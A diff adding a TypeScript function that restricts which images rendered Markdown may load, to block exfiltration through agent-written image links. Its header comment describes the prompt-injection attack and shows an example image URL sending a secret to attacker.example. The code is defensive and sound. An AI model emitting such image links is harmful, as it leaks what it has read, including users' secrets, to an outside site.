@@ -1,0 +1,27 @@
+/**
+ * Which images rendered Markdown may load. Text an agent writes can carry an image whose URL
+ * holds what the agent read (`![x](https://attacker.example/?secret=...)`): a reader's browser
+ * would send it to that site the moment the message is shown, without a click — the known
+ * exfiltration path of prompt injection in chat UIs. So only images that stay on the page's own
+ * origin load: relative URLs, absolute URLs of the same origin, and inline `data:image/*` (PNG,
+ * GIF, JPEG, WebP; never SVG, which can carry script). Any other image is shown as a link the
+ * reader may choose to follow.
+ */
+
+const INLINE_IMAGE = /^data:image\/(png|gif|jpeg|webp);/i;
+
+/**
+ * Whether an image at `src` may load on a page at `pageUrl` (both as written; `src` may be
+ * relative). Returns false for a URL that does not parse.
+ */
+export function imageSourceAllowed(src: string, pageUrl: string): boolean {
+  const trimmed = src.trim();
+  if (INLINE_IMAGE.test(trimmed)) return true;
+  try {
+    const page = new URL(pageUrl);
+    const url = new URL(trimmed, page);
+    return (url.protocol === "http:" || url.protocol === "https:") && url.origin === page.origin;
+  } catch {
+    return false;
+  }
+}
